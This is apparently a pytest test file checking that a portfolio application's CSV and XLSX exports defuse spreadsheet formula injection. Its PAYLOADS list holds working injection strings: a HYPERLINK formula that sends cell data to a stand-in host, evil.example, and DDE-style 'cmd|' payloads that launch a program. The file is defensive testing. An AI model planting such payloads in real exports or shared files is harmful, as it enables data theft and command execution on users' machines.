"""Exports never carry a spreadsheet formula (bar R10, contract "Tokens and exports").

Stored text that starts like a formula is written with a leading ``'`` in CSV and as a plain
string cell in XLSX (no ``<f>`` element), on every list's export, the fast row path (startups,
funding rounds and their participants cell) and the holdings export alike; numbers stay
numbers, negative ones included."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from portfolio import services
from portfolio.api import renderers
from tests.api.test_exports import LISTS, content
from tests.support import factories
from tests.support.clients import token_client
from tests.support.factories import make_user

#: the issue's payloads, and one per other dangerous first character
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]
DANGEROUS = renderers.FORMULA_START


@pytest.fixture
def hostile_world(db):
    """Every payload stored in a text field that some export shows."""
    formula, at_sum, minus, plus, tab, cr, error = PAYLOADS
    institution = factories.InstitutionFactory(name=tab, name_en=cr, city=plus)
    startup = factories.StartupFactory(name=at_sum, name_en=formula, institution=institution)
    investor = factories.InvestorFactory(name=formula, name_en=minus)
    other = factories.InvestorFactory(name=plus)
    factories.FundingRoundFactory(
        startup=startup,
        lead_investor=investor,
        announced_as=minus,
        participants=[services.ParticipantInput(other, Decimal("1000000.00"))],
    )
    factories.MilestoneFactory(startup=startup, title=minus)
    fund = factories.FundFactory(name=formula, manager=at_sum)
    factories.CommitmentFactory(fund=fund, startup=startup, note=minus)
    services.startup_advance(
        startup=startup,
        to_stage=factories.stage("concept"),
        on=dt.date(2024, 6, 1),
        trl=3,
        note=error,
    )
    return fund


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def export_urls(fund) -> list[str]:
    return [*LISTS, f"/api/v1/funds/{fund.pk}/holdings/"]


def test_csv_exports_prefix_formula_text(hostile_world):
    client = token_client(make_user("fund-managers"))
    seen: set[str] = set()
    for url in export_urls(hostile_world):
        response = client.get(url, {"format": "csv"})
        assert response.status_code == 200, url
        rows = csv_cells(content(response))
        for row in rows[1:]:
            for value in row:
                if value.startswith("'"):
                    seen.add(value[1:])
                elif value.startswith("-"):
                    # a negative number (none here) may start with "-"; text never does
                    assert re.fullmatch(r"-\d+(\.\d+)?", value), (url, value)
                else:
                    assert not value.startswith(DANGEROUS), (url, value)
    # every payload (but the "#N/A" error text, harmless in CSV) came out neutralised
    assert set(PAYLOADS[:-1]) <= {value for value in seen}
    # the participants cell of the fast round export starts with the lead investor's name
    rounds = csv_cells(content(client.get("/api/v1/funding-rounds/", {"format": "csv"})))
    participants = rows_by_header(rounds)[0]["participants"]
    assert participants.startswith("'=HYPERLINK("), participants
    assert "+1+cmd" in participants


def rows_by_header(rows: list[list]) -> list[dict]:
    header = rows[0]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def test_xlsx_exports_write_formula_text_as_strings(hostile_world):
    client = token_client(make_user("fund-managers"))
    seen: set[str] = set()
    for url in export_urls(hostile_world):
        response = client.get(url, {"format": "xlsx"})
        assert response.status_code == 200, url
        data = content(response)
        xml = sheet_xml(data)
        assert "<f>" not in xml and "<f " not in xml, url
        assert 't="e"' not in xml, url
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    # shown as the text it is, unchanged (XML drops the carriage return's control meaning
    # but keeps the character)
    assert {PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], PAYLOADS[3], PAYLOADS[6]} <= seen
    assert any(value.startswith("\t=") for value in seen)


COLUMNS = [
    renderers.Column("name", ("name",), "text"),
    renderers.Column("amount", ("amount",), "number"),
    renderers.Column("count", ("count",), "number"),
]
ROWS = [
    ["=1+1", "-1500.00", -3],
    ["-2+3", Decimal("-12.50"), 4],
    ["量子 -1", "=1+1", None],
]


def test_csv_renderer_neutralises_text_and_keeps_numbers():
    rows = csv_cells(b"".join(renderers.stream_csv(COLUMNS, iter(ROWS))))
    assert rows[1:] == [
        ["'=1+1", "-1500.00", "-3"],
        ["'-2+3", "-12.50", "4"],
        # a number column's text that is not a number is text like any other
        ["量子 -1", "'=1+1", ""],
    ]


def test_xlsx_renderer_writes_strings_never_formulas_and_numbers_as_numbers():
    data = b"".join(renderers.stream_xlsx(COLUMNS, iter(ROWS), title="t"))
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    values = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert values[0] == [("=1+1", "s"), (-1500, "n"), (-3, "n")]
    assert values[1] == [("-2+3", "s"), (-12.5, "n"), (4, "n")]
    assert values[2][:2] == [("量子 -1", "s"), ("=1+1", "s")]
